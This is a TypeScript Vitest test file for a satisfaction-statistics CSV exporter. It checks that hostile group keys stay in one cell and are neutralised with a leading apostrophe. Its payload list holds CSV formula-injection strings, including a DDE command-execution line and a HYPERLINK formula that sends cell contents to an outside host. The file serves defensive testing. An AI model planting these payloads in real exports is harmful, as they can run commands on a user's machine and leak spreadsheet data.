import { readFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { SatisfactionStats } from '../../lib/schema/stats';
import { satisfactionCsv } from './stats.csv';

const figures = (n: number) => ({
  n,
  csat: { value: 0.5, n },
  nps: { value: null, n: 0 },
  dimensions: {},
  complaints: { rate: { value: null, n: 0 }, urgent: 0, important: 0, normal: 0 },
});

function statsGroupedBy(keys: string[]): SatisfactionStats {
  return {
    scope: {
      from: '',
      to: '',
      tz: 'UTC',
      groupBy: 'tier',
      round: 'initial',
      teamIds: null,
      agentId: null,
      tierId: null,
    },
    total: figures(keys.length),
    groups: keys.map((key) => ({ key, label: key, ...figures(1) })),
    weakestDimension: null,
  };
}

// Group keys come from what agents' browsers send (a tier id, an SLA metric, a script id): hostile text.
const HOSTILE = [
  "vip\n=cmd|' /C calc'!A0",
  '\r=1+1',
  'a\r\n+2+3',
  'plain\n@SUM(A1:A2)',
  'tab\t-1',
  '=HYPERLINK("http://x.test/?"&A1)',
  'quote"and,comma\nthen=2',
];

describe('stats CSV', () => {
  it('keeps every hostile key in one cell, never starting a row or a cell with a formula', () => {
    const text = satisfactionCsv(statsGroupedBy(HOSTILE), false);
    // The reader a spreadsheet uses: a bare CR or LF outside quotes ends the record.
    const rows = parse(text, { record_delimiter: ['\r\n', '\n', '\r'], relax_column_count: true }) as string[][];
    expect(rows).toHaveLength(2 + HOSTILE.length);
    for (const row of rows) {
      expect(row).toHaveLength(rows[0]?.length ?? 0);
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    // Each key comes back whole, behind the apostrophe that neutralises a formula-looking start.
    expect(rows.slice(2).map((row) => row[0]?.replace(/^'/, ''))).toEqual(HOSTILE);
  });

  it('gives back every key of a blind storage-breaking list exactly, one row each, formulas neutralised', () => {
    // Written by a helper that had not seen this code (test/fixtures/payloads/stored-text.json).
    const { stored } = JSON.parse(
      readFileSync(new URL('../../test/fixtures/payloads/stored-text.json', import.meta.url), 'utf8'),
    ) as { stored: string[] };
    const rows = parse(satisfactionCsv(statsGroupedBy(stored), true), {
      bom: true,
      record_delimiter: ['\r\n', '\n', '\r'],
      relax_column_count: true,
    }) as string[][];
    expect(rows).toHaveLength(2 + stored.length);
    const formulaStart = /^[=+\-@\t\r]/;
    expect(rows.slice(2).map((row) => [row[0], row[1]])).toEqual(
      stored.map((key) => {
        const cell = formulaStart.test(key) ? `'${key}` : key;
        return [cell, cell];
      }),
    );
  });

  it('leaves ordinary keys unquoted', () => {
    expect(satisfactionCsv(statsGroupedBy(['vip', 'general']), false)).toContain('\r\nvip,vip,1,');
  });
});
